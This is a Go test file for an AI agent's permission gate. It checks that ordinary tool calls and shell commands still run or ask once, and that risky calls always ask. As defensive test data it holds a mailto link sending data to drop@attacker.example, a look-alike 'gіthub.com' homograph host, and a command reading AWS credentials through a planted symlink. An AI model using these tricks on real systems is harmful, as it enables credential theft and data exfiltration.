package gate_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/wrasse-app/wrasse/brain/gate"
)

// What the a5 fixes must leave alone: everyday calls near the attacks
// still run or ask once, and the cards say what they cover.
func TestA5FixesKeepEverydayCalls(t *testing.T) {
	home := t.TempDir()
	project := filepath.Join(home, "project")
	for name, body := range map[string]string{".env": "KEY=x\n", "main.go": "package main\n", "docs/a.md": "# a\n"} {
		p := filepath.Join(project, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink("main.go", filepath.Join(project, "link.go")); err != nil {
		t.Fatal(err)
	}
	env := gate.Env{Home: home, Folders: []string{project}, Workspace: filepath.Join(home, ".local", "share", "wrasse")}
	for _, c := range []struct {
		name string
		tool string
		args map[string]any
	}{
		{"grep limited to Go files", "fs_grep", map[string]any{"pattern": "func", "glob": "*.go"}},
		{"grep in a folder without .env", "fs_grep", map[string]any{"pattern": "a", "path": filepath.Join(project, "docs")}},
		{"read through a link to an ordinary file", "fs_read", map[string]any{"path": filepath.Join(project, "link.go")}},
		{"open a PDF", "system_open", map[string]any{"target": filepath.Join(project, "report.pdf")}},
		{"open a web address", "system_open", map[string]any{"target": "https://example.com/"}},
	} {
		if v := a5Check(t, env, c.tool, c.args); v.Decision != gate.Allow {
			t.Errorf("%s: %s %q, want it allowed", c.name, v.Decision, v.Reasons)
		}
	}
	for _, cmd := range []string{
		"ping -c1 localhost", "dig +short example.com", "git init", "sqlite3 app.db 'select 1'", "crontab -l", "split -b 1k notes.txt",
		"vim notes.txt", "python3 -m json.tool data.json", "go run ./cmd/tool", "npx tsc --noEmit", "ln -s ../lib/x.so build/x.so",
		"cat .git/config", "awk '{print $1 > \"out.txt\"}' in.txt", "cat .editorconfig",
	} {
		if v := a2Check(t, corpusEnv, cmd); v.AlwaysAsk || v.Decision == gate.Block {
			t.Errorf("%q: %s (always ask %v, %q), want an ordinary ask", cmd, v.Decision, v.AlwaysAsk, v.Reasons)
		}
	}
}

// The cards name what they are about: a mailto's recipients, the page
// opened, the xn-- host, and the archive's destination in the scope.
func TestA5FixesSayWhy(t *testing.T) {
	v := a5Check(t, corpusEnv, "system_open", map[string]any{"target": "mailto:drop@attacker.example?cc=b@x.example&body=k"})
	if !v.AlwaysAsk || !strings.Contains(strings.Join(v.Reasons, " "), "drop@attacker.example, b@x.example") {
		t.Errorf("mailto: always ask %v, reasons %q; want both recipients named", v.AlwaysAsk, v.Reasons)
	}
	v = a5Check(t, corpusEnv, "system_open", map[string]any{"target": "/home/ann/project/report.html"})
	if !v.AlwaysAsk || !strings.Contains(strings.Join(v.Reasons, " "), "report.html") {
		t.Errorf("report.html: always ask %v, reasons %q", v.AlwaysAsk, v.Reasons)
	}
	v = a5Check(t, corpusEnv, "web_fetch", map[string]any{"url": "https://gіthub.com/"})
	if len(v.Hosts) != 1 || !strings.HasPrefix(v.Hosts[0].Name, "xn--") {
		t.Errorf("look-alike host: %v, want its xn-- form", v.Hosts)
	}
	if !gate.HostAllowed(v.Hosts[0].Name, []string{"gіthub.com"}) || gate.HostAllowed(v.Hosts[0].Name, []string{"github.com"}) {
		t.Error("an always-allowed host is matched in its xn-- form, and only by itself")
	}
}

// A command reading a credential store through a link in a granted
// folder asks every time, as fs_read does.
func TestA5ShellReadsThroughALink(t *testing.T) {
	home := t.TempDir()
	project := filepath.Join(home, "project")
	if err := os.MkdirAll(filepath.Join(home, ".aws"), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(project, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(home, ".aws", "credentials"), []byte("x"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("../.aws", filepath.Join(project, "k")); err != nil {
		t.Fatal(err)
	}
	env := gate.Env{Home: home, Folders: []string{project}, Workspace: filepath.Join(home, ".local", "share", "wrasse")}
	v := a5Check(t, env, "shell_exec", map[string]any{"command": "cat k/credentials", "cwd": project})
	if !v.AlwaysAsk {
		t.Errorf("cat k/credentials (k -> ~/.aws): %s (always ask %v, %q), want it to ask every time", v.Decision, v.AlwaysAsk, v.Reasons)
	}
}
